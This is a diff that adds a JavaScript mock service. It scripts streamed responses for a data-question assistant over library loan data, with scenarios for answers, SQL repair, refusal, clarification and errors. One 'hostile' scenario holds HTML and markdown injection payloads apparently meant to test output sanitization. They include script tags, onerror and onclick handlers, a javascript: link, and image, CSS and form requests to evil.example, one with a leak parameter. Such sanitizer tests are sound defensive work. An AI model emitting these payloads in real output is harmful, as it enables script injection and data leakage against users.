@@ -1,0 +1,94 @@
+/** What the stand-in service answers: the first scenario whose pattern the question matches. */
+import * as content from './content.mjs'
+import {
+  activity, answer, failed, finished, prose, RUN, sqlActivity, started, step, wait,
+} from './events.mjs'
+
+const NO_TABLE = {
+  rule: 'unknown_column',
+  message: 'There is no column “borrowed_at” in loans; the nearest is started_at.',
+  hint: 'Use loans.started_at.',
+}
+
+const found = step('retrieve_context', 220, activity('context', content.evidence))
+
+const attempt = (number, status, reasons) => [
+  ...step('draft_sql', 340, sqlActivity(number, 'drafted', content.monthSql)),
+  ...step('validate_sql', 160, sqlActivity(number, status, content.monthSql, reasons)),
+]
+
+const executed = (rows) =>
+  step('execute_sql', 420, activity('execution', {
+    row_count: rows, bytes_scanned: null, duration_ms: 412, cost_usd: null, warehouse: 'duckdb',
+  }))
+
+const written = (chart, text, receipt) => [
+  ...step('aggregate_rows', 60),
+  ...step('synthesize_answer', 120, prose(text), activity('chart', chart)),
+  ...step('verify_answer', 90, activity('receipt', receipt)),
+]
+
+function answered(chart, text = content.monthText, { tries = attempt(1, 'accepted'), receipt = content.receipt } = {}) {
+  return [
+    started(), wait(150), ...found, ...tries, ...executed(chart.data.length),
+    ...written(chart, text, receipt),
+    finished(answer('answered', { text, chart, receipt, follow_ups: content.followUps })),
+  ]
+}
+
+const refusal = 'Nothing in this data says anything about **the weather**. It covers loans, titles, branches and visits.'
+
+const clarification = {
+  kind: 'clarification',
+  question: 'Which members count as “active”?',
+  options: [
+    { id: 'loan', label: 'Borrowed something', effect: 'Members with at least one loan in the month' },
+    { id: 'visit', label: 'Came in', effect: 'Members with at least one visit in the month' },
+  ],
+}
+
+const hostile = [
+  'Before ![pixel](https://evil.example/p.png?leak=1) after',
+  '<img src="https://evil.example/x.png" onerror="window.hacked=1">',
+  '<style>@import url(https://evil.example/s.css)</style><iframe src="https://evil.example"></iframe>',
+  '<p style="background:url(https://evil.example/b.png)" onclick="window.hacked=1">styled</p>',
+  '[click me](javascript:window.hacked=1) and [a link](https://example.org/page)',
+  '<script>window.hacked=1</script><form action="https://evil.example"><input></form>',
+].join('\n\n')
+
+const SCENARIOS = [
+  [/month by|by member group/i, () => answered(content.groupChart)],
+  [/each month|slow/i, () => answered(content.monthChart)],
+  [/branches/i, () => answered(content.branchChart, '**Central Library** lends the most: 214,000 loans, 26% more than **Riverside** with 159,701.')],
+  [/share/i, () => answered(content.shareChart, '**Fiction** has 38.4% of all loans, **Children** 27.1% and **History** 11.9%.')],
+  [/in total/i, () => answered(content.totalChart, 'There were **1,284,303 loans** from January to June 2025.')],
+  [/repair/i, () => answered(content.monthChart, content.monthText, {
+    tries: [...attempt(1, 'rejected', [NO_TABLE]), ...attempt(2, 'accepted')],
+    receipt: { ...content.receipt, attempts: 2, notes: ['Groups of fewer than 30 members were left out.'] },
+  })],
+  [/weather/i, () => [
+    started(), ...found, ...step('draft_sql', 200),
+    finished(answer('refused', { text: refusal, suggestions: content.capabilities.examples.slice(0, 3) })),
+  ]],
+  [/active/i, (body) => body.resume
+    ? [started(body.resume.run_id), ...step('clarify', 10), ...answered(content.totalChart, `Counted by “${body.resume.option_id}”: **1,284,303 loans**.`).slice(1)]
+    : [started(), ...found, ...step('clarify', 80),
+       finished(answer('clarify', { text: clarification.question, clarification }),
+         { type: 'interrupt', interrupts: [{ id: `${RUN}:clarify`, reason: 'clarification' }] })]],
+  [/replaced/i, () => {
+    const [before, after] = ['There were **9,999 loans**.', 'The number of loans could not be confirmed, so it is left out.']
+    return [
+      started(), ...found, ...attempt(1, 'accepted'), ...executed(1), ...step('synthesize_answer', 300, prose(before)),
+      ...step('verify_answer', 900, activity('answer', { text: after })),
+      finished(answer('answered', { text: after, receipt: content.receipt })),
+    ]
+  }],
+  [/break/i, () => [started(), ...found, failed('The answer could not be completed. Reference 3f2c-91ab.', 'internal', '3f2c-91ab')]],
+  [/cut/i, () => [started(), ...found, { cut: true }]],
+  [/hostile/i, () => answered(content.totalChart, hostile)],
+]
+
+/** The script for a request: events, pauses `{wait}` and `{cut}`; undefined for a 422. */
+export function scriptFor(body) {
+  return SCENARIOS.find(([pattern]) => pattern.test(body.question))?.[1](body)
+}
